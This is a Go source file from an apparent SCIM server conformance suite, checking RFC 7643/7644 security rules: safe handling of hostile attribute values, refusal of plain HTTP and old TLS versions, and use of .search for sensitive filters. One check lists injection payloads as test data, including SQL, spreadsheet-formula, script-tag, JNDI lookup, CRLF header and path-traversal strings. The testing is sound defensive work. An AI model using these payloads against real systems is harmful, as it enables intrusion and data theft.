package conformance

import (
	"crypto/tls"
	"net"
	"net/url"
	"strings"
)

// Security considerations (RFC 7643 section 9, RFC 7644 section 7) as far as
// they show from outside.
var securityChecks = []check{
	{id: "R-7643-9.2-02", run: func(p *probe) {
		for _, s := range []string{
			`'; DROP TABLE users; --`, `" OR ""="`, `%' OR 1=1 --`, `=cmd|' /C calc'!A0`, `<script>alert(1)</script>`, `${jndi:ldap://x.example/a}`, `{{7*7}}`, "a\r\nSet-Cookie: b=c", `../../etc/passwd`, `*)(uid=*`, `{"$ne":1}`,
		} {
			a := p.post("Users", p.userBody(attrs{"displayName": s, "title": s}))
			if a.status == 400 {
				a.fails(400)
				continue
			}
			p.get(where(a.want(201))).want(200).is(s, "displayName")
			quoted := string(encode(s))
			found := p.list("Users", "filter", p.mine("displayName eq "+quoted))
			found.sameSet("users whose displayName is "+quoted, found.texts("Resources", "id"), []string{a.id()})
			if a.header.Get("Set-Cookie") != "" {
				a.fail("a value became a header")
			}
		}
	}},
	{id: "R-7644-7.2-01", run: func(p *probe) {
		u, err := url.Parse(p.j.client.base)
		if err != nil {
			p.fail("base URL: %v", err)
		}
		if u.Scheme != "https" {
			if ip := net.ParseIP(u.Hostname()); ip != nil && ip.IsLoopback() || u.Hostname() == "localhost" {
				p.skip("asked without TLS on the loopback interface")
			}
			p.get("Users?count=1")
			p.fail("the server answers a bearer token over plain http")
		}
		address := u.Host
		if u.Port() == "" {
			address = net.JoinHostPort(u.Hostname(), "443")
		}
		handshake := func(version uint16) error {
			c, err := tls.DialWithDialer(&net.Dialer{Timeout: p.j.client.http.Timeout}, "tcp", address, &tls.Config{
				MinVersion: version, MaxVersion: version, ServerName: u.Hostname(), InsecureSkipVerify: p.j.o.Insecure,
			})
			if err != nil {
				return err
			}
			return c.Close()
		}
		if err := handshake(tls.VersionTLS12); err != nil {
			p.fail("TLS 1.2: %v", err)
		}
		for version, name := range map[uint16]string{tls.VersionTLS10: "TLS 1.0", tls.VersionTLS11: "TLS 1.1"} {
			if handshake(version) == nil {
				p.fail("%s is still spoken", name)
			}
		}
	}},
	{id: "R-7644-7.5.2-01", run: func(p *probe) {
		u := p.user(attrs{"emails": []attrs{{"value": "sensitive@example.com"}}})
		f := p.mine(`emails.value eq "sensitive@example.com"`)
		a := p.get("Users?" + query("filter", f))
		if a.status == 200 {
			p.skip("the server takes filters on addresses by GET, as it may")
		}
		if a.fails(403, "sensitive"); !strings.Contains(text(a.at("detail")), ".search") {
			a.fail("the detail does not point at .search")
		}
		s := p.page(p.post("Users/.search", attrs{"schemas": []string{messages + "SearchRequest"}, "filter": f}))
		s.sameSet("users", s.texts("Resources", "id"), []string{u.id()})
	}},
}

// invisible are the requirements that can not be seen over SCIM, with the reason.
var invisible = map[string]string{
	"R-7643-2.2-01":     "not visible: needs a schema of the judge's own at the server",
	"R-7643-4.1.1-09":   "not visible: what the server hands on to others",
	"R-7643-9.2-01":     "not visible: how the server stores passwords",
	"R-7644-3.4.2.1-02": "not visible: needs more resources than the server's ceiling",
	"R-7644-7.4-02":     "not visible: needs a token that has expired",
	"R-7644-7.5.2-02":   "not visible: what the server logs",
	"R-9967-2-01":       "not visible: needs a receiver of events",
	"R-9967-2-02":       "not visible: needs a receiver of events",
	"R-9967-2.4-01":     "not visible: needs a receiver of events",
}
